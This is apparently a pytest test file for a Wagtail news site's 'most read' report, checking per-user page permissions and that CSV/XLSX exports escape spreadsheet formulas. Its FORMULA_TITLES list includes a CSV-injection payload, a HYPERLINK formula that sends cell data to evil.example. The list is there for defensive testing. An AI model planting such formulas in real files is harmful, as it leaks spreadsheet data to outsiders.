"""The "Most read news" report (HTML, CSV and XLSX) shows a user only the
live, public articles they may edit, and its CSV export never hands a
spreadsheet program a formula."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.urls import reverse
from wagtail.models import GroupPagePermission, PageViewRestriction

from tests import factories
from wagtail_news.counting.store import add_views, today

URL = "wagtail_news_most_read"
QUERIES = 12


def page_permission(codename):
    return Permission.objects.get(content_type__app_label="wagtailcore", codename=codename)


@pytest.fixture
def newsroom(home, section):
    """Two sections and a second site, every article read today: the live
    public "Allowed" and, around it, what an editor of Economy must not see."""
    sport = factories.make_section(home, "Sport")
    _other_site, other_home = factories.make_site(hostname="other.example", slug="other-home")
    other_section = factories.make_section(other_home, "Elsewhere")
    articles = {
        "Allowed story": factories.make_article(section, "Allowed story"),
        "Sport story": factories.make_article(sport, "Sport story"),
        "Other site story": factories.make_article(other_section, "Other site story"),
        "Draft story": factories.make_article(section, "Draft story", live=False),
        "Restricted story": factories.make_article(section, "Restricted story"),
        "Behind a login": factories.make_article(sport, "Behind a login"),
    }
    PageViewRestriction.objects.create(
        page=articles["Restricted story"], restriction_type="password", password="x"
    )
    PageViewRestriction.objects.create(page=sport, restriction_type="login")
    for views, article in enumerate(articles.values(), start=1):
        add_views(article.pk, today(), views)
    return articles


@pytest.fixture
def economy_editor(section):
    """A non-superuser in a group that may add, change and publish pages in
    the Economy section only."""
    group = Group.objects.create(name="Economy editors")
    group.permissions.add(
        Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin")
    )
    for codename in ("add_page", "change_page", "publish_page"):
        GroupPagePermission.objects.create(
            group=group, page=section, permission=page_permission(codename)
        )
    user = get_user_model().objects.create_user("economy", "economy@example.org", "pw")
    user.groups.add(group)
    return user


def report(client, export=None):
    params = {"export": export} if export else {}
    return client.get(reverse(URL), params)


def html_titles(client, titles):
    response = report(client)
    assert response.status_code == 200
    content = response.content.decode()
    return {title for title in titles if title in content}


def csv_rows(client):
    response = report(client, "csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))[1:]


def xlsx_rows(client):
    response = report(client, "xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return data, list(sheet.iter_rows(min_row=2))


@pytest.mark.django_db
def test_an_editor_of_one_section_sees_only_its_live_public_articles(
    client, newsroom, economy_editor
):
    client.force_login(economy_editor)
    assert html_titles(client, newsroom) == {"Allowed story"}
    assert [row[0] for row in csv_rows(client)] == ["Allowed story"]
    _data, rows = xlsx_rows(client)
    assert [row[0].value for row in rows] == ["Allowed story"]


@pytest.mark.django_db
def test_an_editor_with_add_permission_only_sees_their_own_articles(client, section, home):
    group = Group.objects.create(name="Writers")
    group.permissions.add(
        Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin")
    )
    GroupPagePermission.objects.create(
        group=group, page=section, permission=page_permission("add_page")
    )
    writer = get_user_model().objects.create_user("writer", "writer@example.org", "pw")
    writer.groups.add(group)
    own = factories.make_article(section, "Own story", owner=writer)
    theirs = factories.make_article(section, "Colleague story")
    add_views(own.pk, today(), 2)
    add_views(theirs.pk, today(), 5)
    client.force_login(writer)
    assert html_titles(client, ["Own story", "Colleague story"]) == {"Own story"}
    assert [row[0] for row in csv_rows(client)] == ["Own story"]


@pytest.mark.django_db
def test_a_superuser_sees_every_site_but_no_draft_or_restricted_article(admin_client, newsroom):
    expected = {"Allowed story", "Other site story"}
    assert html_titles(admin_client, newsroom) == expected
    assert {row[0] for row in csv_rows(admin_client)} == expected
    _data, rows = xlsx_rows(admin_client)
    assert {row[0].value for row in rows} == expected


@pytest.mark.django_db
def test_a_user_without_page_permissions_is_refused(client, newsroom):
    user = get_user_model().objects.create_user("reader", "reader@example.org", "pw")
    user.user_permissions.add(
        Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin")
    )
    client.force_login(user)
    for export in (None, "csv", "xlsx"):
        response = report(client, export)
        assert response.status_code in (302, 403)
        assert b"Allowed story" not in response.getvalue()


FORMULA_TITLES = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


@pytest.mark.django_db
def test_exports_never_hand_a_spreadsheet_a_formula(admin_client, section):
    for views, title in enumerate(FORMULA_TITLES, start=1):
        article = factories.make_article(section, f"Formula {views}", slug=f"formula-{views}")
        # Written past the editor's checks (a title with a tab or a carriage
        # return is a form error there), as by a script or an older version.
        type(article).objects.filter(pk=article.pk).update(title=title)
        add_views(article.pk, today(), views)
    plain = factories.make_article(section, "Plain - title = fine")
    add_views(plain.pk, today(), 100)

    rows = csv_rows(admin_client)
    assert [row[0] for row in rows] == [
        "Plain - title = fine",
        *("'" + title for title in reversed(FORMULA_TITLES)),
    ]
    # URLs and numbers are written as they are.
    assert rows[0][1].startswith("http://localhost/en/economy/")
    assert rows[0][3:] == ["100", "100"]

    # XLSX: the same texts, unchanged, as string cells: no formula at all.
    data, rows = xlsx_rows(admin_client)
    assert [row[0].value for row in rows] == ["Plain - title = fine", *reversed(FORMULA_TITLES)]
    assert {row[0].data_type for row in rows} == {"s"}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


@pytest.mark.django_db
def test_the_report_query_count_for_an_editor(
    client, newsroom, economy_editor, django_assert_num_queries
):
    """The permission filter and the visibility conditions are part of the
    report's own queries: the count and the page of rows."""
    client.force_login(economy_editor)
    report(client)
    with django_assert_num_queries(QUERIES) as captured:
        assert report(client).status_code == 200
    report_queries = [q["sql"] for q in captured.captured_queries if "pageviewday" in q["sql"]]
    assert len(report_queries) == 2
